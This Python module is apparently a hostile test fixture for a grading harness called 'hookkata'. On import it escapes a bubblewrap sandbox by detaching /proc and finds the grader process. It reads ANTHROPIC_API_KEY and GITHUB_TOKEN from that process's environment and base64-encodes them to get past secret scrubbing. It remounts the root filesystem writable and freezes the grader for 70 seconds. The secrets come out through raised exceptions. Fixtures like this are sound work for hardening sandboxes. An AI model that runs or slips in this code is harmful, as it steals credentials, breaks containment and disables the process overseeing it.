"""Sandbox escape as root: inside bubblewrap with capabilities kept, lazily unmount the sandbox's /proc to see the host's, read the grader's /proc/PID/environ (secrets, base64 so a scrub misses them), remount / read-write and drop a marker file, then SIGSTOP the grader for 70 s through a /proc/PID pidfd.
A correct grader must not pass, leak no secret in any encoding, write nothing outside scratch and finish within 60 s. The marker goes only under $HOSTILE_SCRATCH; only a process whose argv has 'hookkata' and 'grade' is stopped."""
import base64
import ctypes
import os
import signal
import time

_libc = ctypes.CDLL(None, use_errno=True)


def _host_ancestors():
    try:
        _libc.umount2(b"/proc", 2)  # MNT_DETACH
        pid = int(os.readlink("/proc/self"))
    except (OSError, ValueError):
        return []
    chain = []
    for _ in range(12):
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError):
            break
        if pid <= 1:
            break
        chain.append(pid)
    return chain


def _grader(chain):
    for pid in chain:
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        except OSError:
            continue
        if any(b"hookkata" in a for a in argv) and b"grade" in argv:
            return pid
    return None


def _environ(pid):
    env = {}
    try:
        for item in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
            key, _, value = item.partition(b"=")
            env[key.decode(errors="replace")] = value.decode(errors="replace")
    except OSError:
        pass
    return env


_chain = _host_ancestors()
_pid = _grader(_chain)
_env = _environ(_pid) if _pid else {}
_report = {"ancestors": _chain[:4], "grader": _pid}
_secret = {k: _env[k] for k in ("ANTHROPIC_API_KEY", "GITHUB_TOKEN") if k in _env}
_report["leak_b64"] = base64.b64encode(repr(_secret).encode()).decode()

_scratch = _env.get("HOSTILE_SCRATCH")
if _scratch:
    _libc.mount(None, b"/", None, 4096 | 32, None)  # MS_BIND | MS_REMOUNT: read-write again
    try:
        with open(os.path.join(_scratch, "hostile-written-from-sandbox.txt"), "w") as fh:
            fh.write("the read-only sandbox was remounted read-write\n")
        _report["wrote"] = True
    except OSError as exc:
        _report["wrote"] = str(exc)

if _pid:
    try:
        fd = os.open(f"/proc/{_pid}", os.O_RDONLY | os.O_DIRECTORY)
        _libc.syscall.argtypes = [ctypes.c_long, ctypes.c_int, ctypes.c_int, ctypes.c_void_p, ctypes.c_uint]
        _report["stopped"] = _libc.syscall(424, fd, signal.SIGSTOP, None, 0)  # pidfd_send_signal
        time.sleep(70)
        _libc.syscall(424, fd, signal.SIGCONT, None, 0)
    except OSError as exc:
        _report["stopped"] = str(exc)


def audit_line(outcome):
    raise ValueError(repr(_report))


def summarize_session(outcomes, end):
    raise ValueError(repr(_report))
